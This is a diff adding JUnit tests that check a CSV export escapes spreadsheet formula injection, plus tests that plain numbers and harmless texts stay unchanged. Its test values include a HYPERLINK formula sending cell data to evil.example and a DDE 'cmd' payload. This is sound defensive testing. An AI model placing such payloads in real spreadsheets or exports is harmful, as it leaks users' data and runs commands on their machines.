@@ -76,6 +76,30 @@ class UploadCsvTest {
                 UploadCsv.write(layout, Stream.of(numbered, refused, several)));
     }
 
+    /** A spreadsheet takes such a text for a formula, which can send the rest of the sheet anywhere. */
+    @ParameterizedTest
+    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"paid\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1",
+            "\uff1d1+1", "+", "-", "-5 EUR", "+49 170 1", "-1,000.5", "--5", "-.5", "=5", "@5"})
+    void aTextThatBeginsLikeAFormulaIsMadeHarmless(String text) {
+        UploadLayout layout = new UploadLayout(List.of(text, "id"), 1, UploadLayout.NO_COLUMN, null, 1);
+        Uploads.Item item = new Uploads.Item(List.of(text, "k"), answer(new Numbers("k", -7, -7, 1, 1, List.of(text), false)));
+
+        String csv = UploadCsv.write(layout, Stream.of(item));
+
+        UploadedRows rows = UploadCsv.read(csv, "id", null);
+        assertEquals(List.of("'" + text, "id", "number", "text"), rows.layout().columns());
+        assertEquals(List.of(List.of("'" + text, "k", "-7", "'" + text)), rows.rows());
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"", "5", "-5", "+5", "-5.25", "-5,25", "'=1", "a=1", " =1", "1-1", "2026-11-21", "\u2212" + "5", "#1"})
+    void numbersAndHarmlessTextsStayAsTheyWere(String text) {
+        UploadLayout layout = new UploadLayout(List.of("id", "note"), 0, UploadLayout.NO_COLUMN, null, 1);
+        Uploads.Item item = new Uploads.Item(List.of("1", text), answer(new Numbers("1", -7, -7, 1, 1, null, false)));
+
+        assertEquals(text, UploadCsv.read(UploadCsv.write(layout, Stream.of(item)), null, null).rows().get(0).get(1));
+    }
+
     private static Numbering.Answer answer(Numbers numbers) {
         return new Numbering.Answer(numbers, null);
     }
